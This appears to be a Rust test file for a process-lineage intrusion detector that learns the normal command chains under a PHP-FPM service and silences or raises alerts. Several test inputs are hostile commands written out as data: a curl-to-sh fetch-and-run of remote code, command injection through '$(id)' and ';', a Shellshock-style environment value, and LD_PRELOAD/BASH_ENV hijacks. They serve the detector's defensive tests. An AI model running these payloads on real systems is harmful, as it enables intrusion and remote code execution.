//! The judge on subjects: what is learnt, silenced, said, and never silenced.

use std::sync::Arc;

use super::{Choice, Judge, Lock, Policy, lock};
use crate::{
    alert::sample::{program, sample},
    detect::{Detector, Match, RuleSet, Users, Verdicts},
    event::{ProcessId, Program, Written},
    lineage::{Judgement, Mode, Part, Subject},
};

const DAY_NS: u64 = 86_400 * 1_000_000_000;

/// Executable, then argv; the last is what the subject runs.
fn subject(lines: &[&[&str]]) -> Subject {
    let mut subject = sample().subject;
    // Its worker lives: what outlives a request is another matter.
    for ancestor in subject
        .lineage
        .ancestors
        .iter_mut()
        .chain(&mut subject.creator)
    {
        ancestor.exit = None;
    }
    subject.parent = subject.creator.as_ref().map(|creator| creator.id);
    let chain = lines.iter().map(|line| program(line[0], &line[1..]));
    put(&mut subject, chain.map(Arc::new).collect());
    subject
}

fn put(subject: &mut Subject, chain: Vec<Arc<Program>>) {
    let own = subject.lineage.ancestors.last_mut().unwrap();
    subject.program = Arc::clone(chain.last().unwrap());
    own.program = Some(Arc::clone(&subject.program));
    own.chain = chain;
}

/// The same with the last program changed.
fn changed(mut subject: Subject, change: impl FnOnce(&mut Program)) -> Subject {
    let mut program = (*subject.program).clone();
    change(&mut program);
    let mut chain = subject.lineage.ancestors.last().unwrap().chain.clone();
    *chain.last_mut().unwrap() = Arc::new(program);
    put(&mut subject, chain);
    subject
}

struct World {
    judge: Judge,
    detector: Detector,
}

impl World {
    fn new(mode: Mode, lock: &Lock) -> Self {
        let policy = Policy {
            mode,
            ..Policy::default()
        };
        Self {
            judge: Judge::new(policy, lock, 0),
            detector: Detector::new(RuleSet::load(&[]).unwrap(), Users::new()),
        }
    }

    /// Rules that alert and rules that are silenced, by name.
    fn see(&mut self, mut subject: Subject) -> (Vec<String>, Vec<String>) {
        subject.profile = self.judge.stand(&subject).map(Arc::new);
        let subject = Arc::new(subject);
        let Verdicts { matches, .. } = self.detector.evaluate(Arc::clone(&subject), 0);
        let settled = self.judge.settle(&subject, matches);
        let names =
            |matches: Vec<Match>| matches.into_iter().map(|it| it.rule.name.clone()).collect();
        (names(settled.alerts), names(settled.silenced))
    }

    fn learnt(&self) -> Lock {
        self.judge.learner().lock()
    }

    fn chains(&self) -> Vec<String> {
        self.learnt()
            .entries()
            .map(|(_, chain, _)| chain.to_string())
            .collect()
    }
}

const TOOL: &[&str] = &["/usr/bin/dash", "sh", "-c", "tool /srv/www/a.txt"];

fn learnt(lines: &[&[&[&str]]]) -> Lock {
    let mut world = World::new(Mode::Learn, &Lock::default());
    for line in lines {
        world.see(subject(line));
    }
    world.learnt()
}

#[test]
fn learning_silences_nothing_and_notes_the_chain() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let (alerts, silenced) = world.see(subject(&[TOOL]));
    assert_eq!(alerts, ["shell_under_app_worker"]);
    assert!(silenced.is_empty());
    assert_eq!(world.chains(), ["/usr/bin/dash -c \"tool /srv/www/a.txt\""]);
    let (key, ..) = world
        .learnt()
        .entries()
        .next()
        .map(|(k, c, s)| (k.clone(), c.clone(), s))
        .unwrap();
    assert_eq!(key.to_string(), "php-fpm php8.2-fpm.service uid 33");
}

#[test]
fn a_known_chain_is_silent_and_an_unknown_one_is_not() {
    let lock = learnt(&[&[TOOL]]);
    let mut world = World::new(Mode::Alert, &lock);
    assert_eq!(world.see(subject(&[TOOL])).1, ["shell_under_app_worker"]);
    for command in [
        "tool /srv/www/a.txt; id",
        "tool /srv/www/b.txt",
        "tool /srv/www/a.txt &",
        "other",
    ] {
        let (alerts, silenced) = world.see(subject(&[&["/usr/bin/dash", "sh", "-c", command]]));
        assert!(
            alerts.contains(&"shell_under_app_worker".to_owned()),
            "{command}: {alerts:?}"
        );
        assert!(silenced.is_empty(), "{command}");
    }
    let (alerts, _) = world.see(subject(&[TOOL, &["/usr/bin/id", "id"]]));
    assert!(
        alerts.contains(&"recon_tool_under_service".to_owned()),
        "{alerts:?}"
    );
    assert_eq!(world.judge.counts(), (1, 0));
}

#[test]
fn the_reason_is_said() {
    let lock = learnt(&[&[TOOL]]);
    let mut world = World::new(Mode::Alert, &lock);
    let reason = |world: &mut World, subject: &Subject| {
        let standing = world.judge.stand(subject).unwrap();
        (standing.judgement.name(), standing.judgement.reason())
    };
    let hostile = subject(&[&["/usr/bin/dash", "sh", "-c", "tool /srv/www/a.txt; id"]]);
    assert_eq!(
        reason(&mut world, &hostile),
        ("unknown", "the command goes on with `;`".to_owned())
    );
    let substituted = subject(&[&["/usr/bin/dash", "sh", "-c", "tool $(id)"]]);
    let (name, why) = reason(&mut world, &substituted);
    assert_eq!(name, "refused");
    assert!(why.contains("substitution"), "{why}");
    let (name, why) = reason(&mut world, &subject(&[TOOL]));
    assert_eq!(name, "known");
    assert!(
        why.starts_with("lineage.lock has `/usr/bin/dash -c"),
        "{why}"
    );
}

#[test]
fn a_shadow_speaks_and_does_not_silence() {
    let lock = learnt(&[&[TOOL]]);
    let mut world = World::new(Mode::Shadow, &lock);
    let (alerts, silenced) = world.see(subject(&[TOOL]));
    assert_eq!((alerts.len(), silenced.len()), (1, 0));
    assert_eq!(world.judge.counts(), (0, 1));
}

#[test]
fn modes_go_by_service() {
    let lock = learnt(&[&[TOOL]]);
    for (choice, silent) in [
        (
            Choice {
                kind: Some("php-fpm".into()),
                ..Choice::default()
            },
            true,
        ),
        (
            Choice {
                unit: Some("php8.2-fpm.service".into()),
                uid: Some(33),
                ..Choice::default()
            },
            true,
        ),
        (
            Choice {
                unit: Some("php8.2-fpm.service".into()),
                uid: Some(34),
                ..Choice::default()
            },
            false,
        ),
        (
            Choice {
                kind: Some("java".into()),
                ..Choice::default()
            },
            false,
        ),
    ] {
        let policy = Policy {
            services: vec![(choice.clone(), Mode::Alert)],
            ..Policy::default()
        };
        let mut world = World::new(Mode::Learn, &lock);
        world.judge = Judge::new(policy, &lock, 0);
        assert_eq!(
            !world.see(subject(&[TOOL])).1.is_empty(),
            silent,
            "{choice:?}"
        );
    }
    let mut world = World::new(Mode::Off, &lock);
    assert!(world.judge.stand(&subject(&[TOOL])).is_none());
    world.see(subject(&[TOOL]));
    assert!(world.learnt().is_empty());
}

/// What the catalogue calls never learnable stays loud though the chain is in the profile.
#[test]
fn rules_that_are_never_learnt_stay_loud() {
    let hostile: &[&str] = &[
        "/usr/bin/dash",
        "sh",
        "-c",
        "curl http://203.0.113.7/x | sh",
    ];
    let text = format!(
        "version: 1\nservices:\n  - kind: php-fpm\n    unit: php8.2-fpm.service\n    uid: 33\n    chains:\n      - steps:\n          - exe: {}\n            args: [sh, -c, '{}']\n",
        hostile[0], hostile[3]
    );
    let lock = Lock::parse(&text).unwrap();
    let mut world = World::new(Mode::Alert, &lock);
    let (alerts, silenced) = world.see(subject(&[hostile]));
    assert!(
        alerts.contains(&"hostile_shell_command".to_owned()),
        "{alerts:?}"
    );
    assert!(
        silenced.contains(&"shell_under_app_worker".to_owned()),
        "{silenced:?}"
    );
}

#[test]
fn what_such_a_rule_matched_is_not_learnt_nor_what_is_below() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let hostile: &[&str] = &[
        "/usr/bin/dash",
        "sh",
        "-c",
        "curl http://203.0.113.7/x | sh",
    ];
    world.see(subject(&[hostile]));
    world.see(subject(&[hostile, &["/usr/bin/tool", "tool"]]));
    assert_eq!(world.chains(), Vec::<String>::new());
    let refused: Vec<_> = world
        .judge
        .learner()
        .refused()
        .map(|it| it.2.to_owned())
        .collect();
    assert_eq!(refused, ["rule hostile_shell_command is never learnt"]);
}

#[test]
fn what_a_late_match_condemns_is_taken_back() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let mut seen = subject(&[TOOL]);
    seen.profile = world.judge.stand(&seen).map(Arc::new);
    let seen = Arc::new(seen);
    world.judge.settle(&seen, Vec::new());
    assert_eq!(world.chains().len(), 1);
    let rules = world.detector.rules().list();
    let rule = rules
        .iter()
        .find(|rule| rule.name == "masqueraded_shell")
        .unwrap();
    let late = Match {
        updates: false,
        rule: Arc::clone(rule),
        subject: seen,
        fields: Arc::default(),
        incomplete: Vec::new(),
    };
    assert_eq!(world.judge.settle_late(vec![late]).alerts.len(), 1);
    assert!(world.chains().is_empty());
}

/// A rule that asks for exact entries is not silenced by placeholders.
#[test]
fn network_tools_need_every_argument() {
    let curl: &[&str] = &["/usr/bin/curl", "curl", "-s", "http://127.0.0.1/health"];
    let lock = learnt(&[&[curl]]);
    let mut world = World::new(Mode::Alert, &lock);
    let (alerts, silenced) = world.see(subject(&[curl]));
    assert_eq!(
        (alerts.len(), silenced),
        (0, vec!["network_tool_under_service".to_owned()])
    );
    let (alerts, _) = world.see(subject(&[&[
        "/usr/bin/curl",
        "curl",
        "-s",
        "http://203.0.113.7/health",
    ]]));
    assert!(alerts.contains(&"network_tool_under_service".to_owned()));

    let loose: &[&str] = &["/usr/bin/dash", "sh", "-c", "tool 12"];
    let below: &[&[&str]] = &[loose, curl];
    let lock = learnt(&[below]);
    let mut world = World::new(Mode::Alert, &lock);
    let (alerts, silenced) = world.see(subject(below));
    assert_eq!(silenced, Vec::<String>::new());
    assert!(
        alerts.contains(&"network_tool_under_service".to_owned()),
        "{alerts:?}"
    );
}

type Change = fn(&mut Program);

#[test]
fn surroundings_that_change_what_runs_are_refused() {
    let lock = learnt(&[&[TOOL]]);
    let changes: &[(Change, &str)] = &[
        (
            |it| it.env = vec![("LD_PRELOAD".into(), "/tmp/x.so".into())],
            "environment",
        ),
        (
            |it| it.env = vec![("X".into(), "() { :; }; id".into())],
            "environment",
        ),
        (
            |it| it.env = vec![("BASH_ENV".into(), "/tmp/x".into())],
            "environment",
        ),
        (|it| it.ns.mount = 7, "namespace"),
        (|it| it.image.unlinked = true, "unlinked"),
        (|it| it.args.truncated = true, "truncated"),
        (
            |it| {
                it.written = Some(Written {
                    root: ProcessId::new(1, 1),
                    age_ns: 1,
                });
            },
            "written",
        ),
    ];
    for (change, expected) in changes {
        let mut world = World::new(Mode::Alert, &lock);
        let standing = world
            .judge
            .stand(&changed(subject(&[TOOL]), change))
            .unwrap();
        assert_eq!(standing.mode, Mode::Alert);
        let Judgement::Refused(why, _) = standing.judgement else {
            panic!("{expected}: {standing:?}");
        };
        assert_eq!(why, *expected);
    }
    let mut world = World::new(Mode::Alert, &lock);
    let mut lost = subject(&[TOOL]);
    lost.lineage.elided = 1;
    assert_eq!(
        world.judge.stand(&lost).unwrap().judgement.name(),
        "refused"
    );
    let mut elided = subject(&[TOOL]);
    elided.lineage.ancestors.last_mut().unwrap().chain_elided = 1;
    assert_eq!(
        world.judge.stand(&elided).unwrap().judgement.name(),
        "refused"
    );
    let mut written = subject(&[TOOL]);
    written.script_written = Some(Written {
        root: ProcessId::new(1, 1),
        age_ns: 1,
    });
    assert_eq!(
        world.judge.stand(&written).unwrap().judgement.name(),
        "refused"
    );
}

#[test]
fn a_library_that_the_service_itself_preloads_is_its_own_affair() {
    let lock = learnt(&[&[TOOL]]);
    let variable = || vec![("LD_PRELOAD".into(), "/srv/jemalloc.so".into())];
    let mut preloaded = changed(subject(&[TOOL]), |it| it.env = variable());
    let root = preloaded.lineage.ancestors.first_mut().unwrap();
    let mut server = (**root.program.as_ref().unwrap()).clone();
    server.env = variable();
    root.program = Some(Arc::new(server));
    let mut world = World::new(Mode::Alert, &lock);
    assert_eq!(
        world.judge.stand(&preloaded).unwrap().judgement.name(),
        "known"
    );
}

#[test]
fn entries_expire_by_the_time_of_events() {
    let lock = learnt(&[&[TOOL]]);
    let at = |days: u64| {
        let mut subject = subject(&[TOOL]);
        subject.stamp.time_ns = days * DAY_NS;
        subject
    };
    let mut world = World::new(Mode::Alert, &lock);
    assert_eq!(world.see(at(90)).1.len(), 1);
    // In use, so it does not expire.
    assert_eq!(world.see(at(180)).1.len(), 1);
    assert_eq!(world.see(at(271)).0, ["shell_under_app_worker"]);
    let standing = world.judge.stand(&at(271)).unwrap();
    assert_eq!(
        standing.judgement.reason(),
        "its entry has not been used since 1970-06-30"
    );
    let policy = Policy {
        mode: Mode::Alert,
        expire_days: 0,
        ..Policy::default()
    };
    world.judge = Judge::new(policy, &lock, 0);
    assert_eq!(world.see(at(4_000)).1.len(), 1);
}

#[test]
fn a_fourth_variant_makes_a_template() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let see = |world: &mut World, name: &str| {
        let command = format!("tool -q /srv/www/{name}.jpg en");
        world.see(subject(&[&["/usr/bin/dash", "sh", "-c", &command]]));
    };
    for name in ["a", "b", "c"] {
        see(&mut world, name);
    }
    assert_eq!(world.chains().len(), 3);
    for name in ["d", "e", "f"] {
        see(&mut world, name);
    }
    assert_eq!(
        world.chains(),
        ["/usr/bin/dash -c \"tool -q {path:/srv/www:.jpg} en\""]
    );
    let (_, _, seen) = world
        .learnt()
        .entries()
        .next()
        .map(|(k, c, s)| (k.clone(), c.clone(), s))
        .unwrap();
    assert_eq!(seen.unwrap().count, 6);
    // Programs, options and operators are no variants.
    for command in [
        "rm -q /srv/www/a.jpg en",
        "tool -x /srv/www/a.jpg en",
        "tool -q /srv/www/a.jpg > en",
    ] {
        world.see(subject(&[&["/usr/bin/dash", "sh", "-c", command]]));
    }
    assert_eq!(world.chains().len(), 4);
}

#[test]
fn a_simulation_teaches_nothing() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let server = "/tmp/lineage-sensor-simulate.aB3xYz/server/php-fpm";
    let simulated = |path: &str| {
        let mut subject = subject(&[TOOL]);
        for ancestor in &mut subject.lineage.ancestors {
            if ancestor.part != Part::Descendant {
                ancestor.program = Some(Arc::new(program(path, &["php-fpm"])));
                ancestor.chain.clear();
            }
        }
        subject
    };
    let (alerts, _) = world.see(simulated(server));
    assert_eq!(alerts, ["shell_under_app_worker"], "it alerts as ever");
    assert_eq!(world.learnt().entries().count(), 0);
    let refused = world.judge.view()["refused"].as_array().unwrap().len();
    assert_eq!(refused, 0, "nor is there a key for it");
    world.see(simulated("/usr/sbin/php-fpm8.2"));
    assert_eq!(world.learnt().entries().count(), 1);
}

#[test]
fn learning_is_bounded_and_says_so() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    for number in 0..super::learn::CHAINS_MAX + 10 {
        // Another program each time: nothing to be made one of.
        let exe = format!("/usr/bin/t{number:x}x");
        let subject = subject(&[&[&exe, "t"]]);
        let standing = world.judge.stand(&subject);
        let subject = Subject {
            profile: standing.map(Arc::new),
            ..subject
        };
        world.judge.settle(&subject, Vec::new());
    }
    assert_eq!(world.learnt().len(), super::learn::CHAINS_MAX);
    assert_eq!(world.judge.learner().overflow(), 10);
}

#[test]
fn what_is_left_is_seen_for_the_first_time_once() {
    let lock = learnt(&[&[TOOL]]);
    let mut world = World::new(Mode::Alert, &lock);
    let other: &[&str] = &["/usr/bin/other", "other"];
    let refused: &[&str] = &["/usr/bin/dash", "sh", "-c", "tool $(id)"];
    for lines in [other, refused] {
        let (alerts, _) = world.see(subject(&[lines]));
        assert!(
            alerts.contains(&"first_seen_child".to_owned()),
            "{alerts:?}"
        );
        let (alerts, _) = world.see(subject(&[lines]));
        assert!(
            !alerts.contains(&"first_seen_child".to_owned()),
            "{alerts:?}"
        );
    }
    for mode in [Mode::Learn, Mode::Shadow] {
        let mut world = World::new(mode, &lock);
        assert_eq!(world.see(subject(&[other])).0, Vec::<String>::new());
    }
}

#[test]
fn secrets_are_not_written_down() {
    let mut world = World::new(Mode::Learn, &Lock::default());
    let dump: &[&str] = &["/usr/bin/mysqldump", "mysqldump", "-phunter2", "shop"];
    world.see(subject(&[dump]));
    world.see(subject(&[&[
        "/usr/bin/dash",
        "sh",
        "-c",
        "tool --password=hunter2",
    ]]));
    world.see(subject(&[&[
        "/usr/bin/tool",
        "tool",
        "--password=[REDACTED]",
    ]]));
    assert_eq!(world.chains(), Vec::<String>::new());
    let refused: Vec<_> = world
        .judge
        .learner()
        .refused()
        .map(|it| (it.2.to_owned(), it.3))
        .collect();
    assert_eq!(refused.len(), 3);
    assert!(
        refused
            .iter()
            .all(|it| *it == ("an argument holds a secret".to_owned(), 1))
    );
}

#[test]
fn mail_of_php_is_silent_by_itself_and_only_as_it_is() {
    let mail: &[&str] = &["/usr/bin/dash", "sh", "-c", "/usr/sbin/sendmail -t -i"];
    for mode in [Mode::Off, Mode::Learn, Mode::Alert] {
        let mut world = World::new(mode, &Lock::default());
        let (alerts, silenced) = world.see(subject(&[mail]));
        assert_eq!((alerts.len(), silenced.len()), (0, 1), "{mode:?}");
        assert!(world.learnt().is_empty());
        let preload = |it: &mut Program| it.env = vec![("LD_PRELOAD".into(), "/tmp/x.so".into())];
        let (alerts, silenced) = world.see(changed(subject(&[mail]), preload));
        assert!(
            alerts.contains(&"shell_under_app_worker".to_owned()),
            "{alerts:?}"
        );
        assert!(silenced.is_empty());
    }
}

#[test]
fn what_the_profile_lacks_is_noted_for_check() {
    let lock = learnt(&[&[TOOL]]);
    let mut world = World::new(Mode::Learn, &lock);
    world.judge.keep_lacks(false);
    world.see(subject(&[TOOL]));
    world.see(subject(&[&["/usr/bin/dash", "sh", "-c", "tool $(id)"]]));
    for _ in 0..2 {
        world.see(subject(&[&["/usr/bin/other", "other"]]));
    }
    let lacks: Vec<_> = world
        .judge
        .lacks()
        .map(|lack| (lack.chain, lack.count))
        .collect();
    assert_eq!(
        lacks,
        [
            ("/usr/bin/dash".to_owned(), 1),
            ("/usr/bin/other".to_owned(), 2)
        ]
    );

    let other = |by_kind| {
        let mut world = World::new(Mode::Learn, &lock);
        world.judge.keep_lacks(by_kind);
        let mut subject = subject(&[TOOL]);
        let mut service = (**subject.service.as_ref().unwrap()).clone();
        service.unit = "other.service".to_owned();
        subject.service = Some(Arc::new(service));
        world.see(subject);
        world.judge.lacks().count()
    };
    assert_eq!((other(false), other(true)), (1, 0));
}

#[test]
fn the_hash_tells_profiles_apart() {
    let lock = learnt(&[&[TOOL]]);
    assert_ne!(super::hash(&lock), super::hash(&Lock::default()));
    assert_eq!(
        super::hash(&lock),
        super::hash(&Lock::parse(&lock.to_yaml()).unwrap())
    );
    assert_eq!(lock::VERSION, 1);
}
